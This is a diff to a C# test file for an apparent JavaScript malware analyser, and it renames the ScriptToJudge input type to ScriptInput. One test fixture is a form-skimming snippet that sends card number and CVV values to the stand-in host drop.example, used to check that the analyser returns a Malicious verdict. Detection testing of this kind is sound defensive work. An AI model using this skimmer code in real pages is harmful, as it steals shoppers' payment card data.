@@ -15,11 +15,11 @@ public sealed class JudgementLimitsTests
     {
         var judge = new ScriptJudge([new StaticLayer(), new FailingLayer()]);
 
-        var judgement = judge.Judge(new ScriptToJudge { Source = "var a = 1;" });
+        var judgement = judge.Judge(new ScriptInput { Source = "var a = 1;" });
 
         Assert.Equal(VerdictKind.Unknown, judgement.Verdict);
         Assert.Contains(judgement.Findings, finding => finding is { Rule: "analysis-incomplete", Severity: Severity.Info, Weight: 0 });
-        Assert.Equal(judge.Judge(new ScriptToJudge { Source = "" }).AnalyzerVersion, judgement.AnalyzerVersion);
+        Assert.Equal(judge.Judge(new ScriptInput { Source = "" }).AnalyzerVersion, judgement.AnalyzerVersion);
     }
 
     [Fact]
@@ -27,7 +27,7 @@ public sealed class JudgementLimitsTests
     {
         const string Source = "document.forms[0].onsubmit = function () { fetch('https://drop.example/x.gif', { method: 'POST', body: document.querySelector('#card_number').value + document.querySelector('[name=cvv]').value }); };";
 
-        var judgement = new ScriptJudge([new FailingLayer(), new StaticLayer()]).Judge(new ScriptToJudge { Source = Source });
+        var judgement = new ScriptJudge([new FailingLayer(), new StaticLayer()]).Judge(new ScriptInput { Source = Source });
 
         Assert.Equal(VerdictKind.Malicious, judgement.Verdict);
     }
@@ -40,7 +40,7 @@ public sealed class JudgementLimitsTests
             source.Append("function d").Append(index).Append("(x) { return d(x + ").Append(index).Append("); }\nwindow.v").Append(index)
                 .Append(" = d").Append(index).Append("('a') + d('").Append(index).Append("');\n");
 
-        var judgement = new ScriptJudge().Judge(new ScriptToJudge { Source = source.ToString() });
+        var judgement = new ScriptJudge().Judge(new ScriptInput { Source = source.ToString() });
 
         Assert.Equal(VerdictKind.Unknown, judgement.Verdict);
         Assert.Contains(judgement.Findings, finding => finding.Rule == "analysis-incomplete");
@@ -56,7 +56,7 @@ public sealed class JudgementLimitsTests
                 .Append("; }\n");
         }
 
-        var judgement = new ScriptJudge().Judge(new ScriptToJudge { Source = source + "f30(document.title);" });
+        var judgement = new ScriptJudge().Judge(new ScriptInput { Source = source + "f30(document.title);" });
 
         Assert.Equal((VerdictKind.Clean, 99), (judgement.Verdict, judgement.Score));
     }
@@ -72,7 +72,7 @@ public sealed class JudgementLimitsTests
         }
 
         var judgement = new ScriptJudge()
-            .Judge(new ScriptToJudge { Source = source + "app.run = function (c) { return c.k; }; window.app = app; })();" });
+            .Judge(new ScriptInput { Source = source + "app.run = function (c) { return c.k; }; window.app = app; })();" });
 
         Assert.Equal((VerdictKind.Clean, 99), (judgement.Verdict, judgement.Score));
     }
